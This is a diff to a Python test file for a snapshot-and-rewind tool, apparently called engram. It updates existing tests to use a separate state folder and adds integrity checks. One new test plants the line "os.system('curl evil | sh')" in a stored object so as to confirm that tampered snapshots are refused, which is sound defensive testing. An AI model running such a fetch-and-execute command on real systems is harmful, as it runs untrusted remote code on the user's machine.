@@ -14,13 +14,16 @@ from engram.stores.snapshots.rewind import (
     plan_rewind,
 )
 from engram.stores.snapshots.snapshot_log import SnapshotLog, new_record
-from engram.stores.snapshots.trees import CopyTrees
+from engram.stores.snapshots.trees import CopyTrees, SnapshotError
+from tests.support.state import state_of
 
 
 def _hashes(root: Path) -> dict[str, str]:
-    return {p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
-            for p in sorted(root.rglob("*"))
-            if p.is_file() and not p.relative_to(root).as_posix().startswith(".engram/")}
+    return {
+        p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
+        for p in sorted(root.rglob("*"))
+        if p.is_file() and not p.relative_to(root).as_posix().startswith(".engram/")
+    }
 
 
 def _project(tmp_path: Path) -> Path:
@@ -35,7 +38,7 @@ def _project(tmp_path: Path) -> Path:
 
 def test_copy_snapshot_leaves_out_secrets_and_engram_and_dedups(tmp_path):
     root = _project(tmp_path)
-    trees = CopyTrees(root)
+    trees = CopyTrees(root, state_of(root))
     first = trees.snapshot()
     files = trees.files(first)
     assert set(files) == {"src/a.py", "run.sh"}
@@ -46,7 +49,7 @@ def test_copy_snapshot_leaves_out_secrets_and_engram_and_dedups(tmp_path):
 
 def test_rewind_restores_created_deleted_and_mode_changed_files_exactly(tmp_path):
     root = _project(tmp_path)
-    trees = CopyTrees(root)
+    trees = CopyTrees(root, state_of(root))
     start, start_hashes = trees.snapshot(), _hashes(root)
     (root / "src" / "a.py").unlink()
     (root / "gen" / "deep").mkdir(parents=True)
@@ -64,7 +67,7 @@ def test_rewind_restores_created_deleted_and_mode_changed_files_exactly(tmp_path
 
 def test_a_file_the_user_changed_since_is_a_conflict_unless_already_restored(tmp_path):
     root = _project(tmp_path)
-    trees = CopyTrees(root)
+    trees = CopyTrees(root, state_of(root))
     start = trees.snapshot()
     (root / "src" / "a.py").write_text("a = 2\n")
     (root / "run.sh").write_text("echo engram\n")
@@ -80,7 +83,7 @@ def test_a_file_the_user_changed_since_is_a_conflict_unless_already_restored(tmp
 
 
 def test_code_at_follows_the_checkpoint_ancestry(tmp_path):
-    log = SnapshotLog(tmp_path)
+    log = SnapshotLog(state_of(tmp_path))
     log.append(new_record("t", "c2", "write", "edit_file", "T0", "T1", {"a"}))
     log.append(new_record("t", "c2", "command", "run_command", "T1", "T2", {"b"}))
     log.append(new_record("t", "c5", "write", "edit_file", "T2", "T3", {"a"}))
@@ -126,3 +129,24 @@ def test_a_rewind_keeps_only_the_changes_made_before_its_target():
     assert _live([edit, command, rewind]) == ["T1"]
     old_rewind = new_record("t", None, "rewind", "rewind", "T2", "T1", {"b"})
     assert _live([edit, command, old_rewind]) == ["T1", "T2"]  # logged before ``kept``
+
+
+def test_a_planted_or_damaged_object_is_never_restored(tmp_path):
+    import pytest
+
+    root = _project(tmp_path)
+    trees = CopyTrees(root, state_of(root))
+    files = trees.files(trees.snapshot())
+    entry = files["src/a.py"]
+    stored = trees._object(entry.blob)
+    stored.chmod(0o644)
+    stored.write_bytes(b"import os; os.system('curl evil | sh')\n")
+    with pytest.raises(SnapshotError, match="does not match its content"):
+        trees.read(entry)
+
+
+def test_snapshots_live_in_the_state_folder_not_the_project(tmp_path):
+    root = _project(tmp_path)
+    CopyTrees(root, state_of(root)).snapshot()
+    assert not (root / ".engram").exists()
+    assert any(state_of(root).path("snapshots", "objects").rglob("*"))
